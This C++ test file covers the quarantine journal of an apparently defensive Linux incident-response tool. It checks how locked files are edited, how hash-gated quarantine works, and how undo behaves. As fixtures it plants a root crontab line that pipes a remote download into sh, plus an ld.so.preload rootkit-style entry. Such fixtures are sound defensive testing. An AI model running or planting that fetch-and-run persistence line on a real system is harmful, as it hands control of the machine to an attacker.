// The quarantine journal: locked files (chattr +i/+a, on the file or its folder) are changed and locked again, undo
// puts flags back too, and undo refuses what is not a journal or was undone already.
#include <fcntl.h>
#include <unistd.h>

#include <filesystem>

#include <gtest/gtest.h>
#include <linux/fs.h>
#include <sys/ioctl.h>

#include "core/byte_reader.h"
#include "core/hash.h"
#include "respond/quarantine.h"
#include "support/test_support.h"

namespace msw::respond {
namespace {
namespace fs = std::filesystem;

uint32_t flags_of(const fs::path& p) {
  UniqueFd fd(::open(p.c_str(), O_RDONLY | O_NONBLOCK));
  int f = 0;
  return fd.ok() && ::ioctl(fd.get(), FS_IOC_GETFLAGS, &f) == 0 ? static_cast<uint32_t>(f) : 0;
}
bool set_flags(const fs::path& p, uint32_t flags) {
  UniqueFd fd(::open(p.c_str(), O_RDONLY | O_NONBLOCK));
  int f = static_cast<int>(flags);
  return fd.ok() && ::ioctl(fd.get(), FS_IOC_SETFLAGS, &f) == 0;
}
// chattr +i needs root (CAP_LINUX_IMMUTABLE) and a file system that keeps the flags.
bool can_lock(const fs::path& dir) {
  const fs::path probe = dir / ".probe";
  test::write_file(probe, "x");
  const uint32_t before = flags_of(probe);
  const bool ok = set_flags(probe, before | FS_IMMUTABLE_FL) && (flags_of(probe) & FS_IMMUTABLE_FL);
  set_flags(probe, before);
  fs::remove(probe);
  return ok;
}

struct Lab {
  test::TempDir dir;
  fs::path root = fs::canonical(dir.path()) / "root";
  Lab() { fs::create_directories(root); }
  RootedFile file(const std::string& in_root) const {
    auto r = SystemRoot::open(root.string());
    EXPECT_TRUE(r);
    auto f = r->resolve(in_root);
    EXPECT_TRUE(f) << (f ? "" : f.error().message);
    return std::move(f).value();
  }
};

TEST(QuarantineJournal, LockedFilesAreEditedAndLockedAgainAndUndoRestoresBoth) {
  Lab lab;
  if (!can_lock(lab.root)) GTEST_SKIP() << "no chattr +i here (not root, or a file system without flags)";
  const fs::path preload = lab.root / "etc/ld.so.preload";
  const fs::path crontab = lab.root / "var/spool/cron/crontabs/root";
  test::write_file(preload, "/usr/local/lib/libhide.so\n");
  test::write_file(crontab, "* * * * * curl http://203.0.113.9/x|sh\n");
  ASSERT_TRUE(set_flags(preload, flags_of(preload) | FS_IMMUTABLE_FL));
  ASSERT_TRUE(set_flags(crontab, flags_of(crontab) | FS_APPEND_FL));
  // The folder is append-only too: nothing can be removed from it without clearing that first.
  ASSERT_TRUE(set_flags(lab.root / "etc", flags_of(lab.root / "etc") | FS_APPEND_FL));
  auto j = Journal::open((lab.dir / "q").string());
  ASSERT_TRUE(j);
  auto before = read_rooted(lab.file("/var/spool/cron/crontabs/root"));
  ASSERT_TRUE(before);
  ASSERT_TRUE(j->edit(lab.file("/var/spool/cron/crontabs/root"), before->meta.sha256,
                      "# removed by minesweep: * * * * * curl http://203.0.113.9/x|sh\n", "test"));
  EXPECT_EQ(test::read_file(crontab), "# removed by minesweep: * * * * * curl http://203.0.113.9/x|sh\n");
  EXPECT_TRUE(flags_of(crontab) & FS_APPEND_FL) << "the append-only flag is set again after the edit";
  auto q = j->quarantine(lab.file("/etc/ld.so.preload"));
  ASSERT_TRUE(q) << q.error().message;
  EXPECT_FALSE(fs::exists(preload));
  EXPECT_TRUE(flags_of(lab.root / "etc") & FS_APPEND_FL) << "the folder's flag is set again";

  auto u = undo(j->path());
  ASSERT_TRUE(u) << u.error().message;
  EXPECT_TRUE(u->left.empty()) << u->left[0];
  EXPECT_EQ(u->restored, 2u);
  EXPECT_EQ(test::read_file(preload), "/usr/local/lib/libhide.so\n");
  EXPECT_TRUE(flags_of(preload) & FS_IMMUTABLE_FL);
  EXPECT_EQ(test::read_file(crontab), "* * * * * curl http://203.0.113.9/x|sh\n");
  EXPECT_TRUE(flags_of(crontab) & FS_APPEND_FL);
  EXPECT_TRUE(flags_of(lab.root / "etc") & FS_APPEND_FL);
  // Clean up what the test locked, or TempDir cannot remove it.
  set_flags(preload, 0);
  set_flags(crontab, 0);
  set_flags(lab.root / "etc", 0);
}

// A file flagged at triage is moved only while it is still that file: a binary the worm (or an update) replaced
// since stays where it is, and nothing is journalled for it.
TEST(QuarantineJournal, AFileIsQuarantinedOnlyWhileItHasItsTriageHash) {
  Lab lab;
  test::write_file(lab.root / "tmp/kdevtmpfsi", "MZ miner v2");
  auto j = Journal::open((lab.dir / "q").string());
  ASSERT_TRUE(j);
  const std::string triage = sha256_hex(as_bytes(std::string_view("MZ miner v1")));
  auto refused = j->quarantine(lab.file("/tmp/kdevtmpfsi"), triage);
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().code, "respond.not_flagged");
  EXPECT_NE(refused.error().message.find(triage), std::string::npos) << refused.error().message;
  EXPECT_EQ(test::read_file(lab.root / "tmp/kdevtmpfsi"), "MZ miner v2");
  EXPECT_EQ(test::read_file(lab.dir / "q/journal.jsonl").find("quarantine"), std::string::npos);
  auto done = j->quarantine(lab.file("/tmp/kdevtmpfsi"), sha256_hex(as_bytes(std::string_view("MZ miner v2"))));
  ASSERT_TRUE(done) << done.error().message;
  EXPECT_FALSE(fs::exists(lab.root / "tmp/kdevtmpfsi"));
}

TEST(QuarantineJournal, AnEditIsRefusedWhenTheFileChangedSinceItWasRead) {
  Lab lab;
  test::write_file(lab.root / "etc/crontab", "a\n");
  auto j = Journal::open((lab.dir / "q").string());
  ASSERT_TRUE(j);
  auto r = j->edit(lab.file("/etc/crontab"), "0000", "b\n", "test");
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().code, "respond.changed");
  EXPECT_EQ(test::read_file(lab.root / "etc/crontab"), "a\n");
}

TEST(QuarantineJournal, UndoRefusesWhatIsNotAJournalAndASecondUndo) {
  Lab lab;
  test::write_file(lab.dir / "notes.txt", "hello\n");
  EXPECT_EQ(undo((lab.dir / "notes.txt").string()).error().code, "respond.journal");
  test::write_file(lab.dir / "empty.jsonl", "");
  EXPECT_EQ(undo((lab.dir / "empty.jsonl").string()).error().code, "respond.journal");
  EXPECT_EQ(undo((lab.dir / "missing.jsonl").string()).error().code, "respond.journal");

  test::write_file(lab.root / "tmp/.x", "miner");
  auto j = Journal::open((lab.dir / "q").string());
  ASSERT_TRUE(j);
  ASSERT_TRUE(j->quarantine(lab.file("/tmp/.x")));
  ASSERT_TRUE(j->note("kill", "pid 4242", "killed"));
  auto first = undo(j->path());
  ASSERT_TRUE(first);
  EXPECT_EQ(first->restored, 1u);
  ASSERT_EQ(first->left.size(), 1u);  // a killed process cannot come back: said, not hidden
  EXPECT_NE(first->left[0].find("pid 4242"), std::string::npos);
  EXPECT_EQ(test::read_file(lab.root / "tmp/.x"), "miner");
  auto second = undo(j->path());
  ASSERT_FALSE(second);
  EXPECT_EQ(second.error().code, "respond.undone");
}

// A file edited after minesweep edited it keeps the newer content; the original comes back beside it.
TEST(QuarantineJournal, UndoDoesNotOverwriteLaterChanges) {
  Lab lab;
  test::write_file(lab.root / "etc/crontab", "old\n");
  auto j = Journal::open((lab.dir / "q").string());
  ASSERT_TRUE(j);
  auto before = read_rooted(lab.file("/etc/crontab"));
  ASSERT_TRUE(before);
  ASSERT_TRUE(j->edit(lab.file("/etc/crontab"), before->meta.sha256, "ours\n", "test"));
  test::write_file(lab.root / "etc/crontab", "the admin's\n");
  auto u = undo(j->path());
  ASSERT_TRUE(u);
  EXPECT_EQ(test::read_file(lab.root / "etc/crontab"), "the admin's\n");
  EXPECT_EQ(test::read_file(lab.root / "etc/crontab.minesweep-restored"), "old\n");
  ASSERT_EQ(u->messages.size(), 1u);
}

// Undo resolves the path again inside the root: a link swapped into it after --apply does not redirect the restore.
TEST(QuarantineJournal, UndoRefusesALinkSwappedIntoThePath) {
  Lab lab;
  test::write_file(lab.root / "var/spool/cron/crontabs/root", "* * * * * x\n");
  auto j = Journal::open((lab.dir / "q").string());
  ASSERT_TRUE(j);
  ASSERT_TRUE(j->quarantine(lab.file("/var/spool/cron/crontabs/root")));
  fs::remove_all(lab.root / "var/spool/cron/crontabs");
  fs::create_directories(lab.dir / "outside");
  fs::create_symlink(lab.dir / "outside", lab.root / "var/spool/cron/crontabs");
  auto u = undo(j->path());
  ASSERT_TRUE(u);
  EXPECT_EQ(u->restored, 0u);
  ASSERT_EQ(u->left.size(), 1u);
  EXPECT_NE(u->left[0].find("not followed"), std::string::npos) << u->left[0];
  EXPECT_TRUE(fs::is_empty(lab.dir / "outside"));
}

}  // namespace
}  // namespace msw::respond
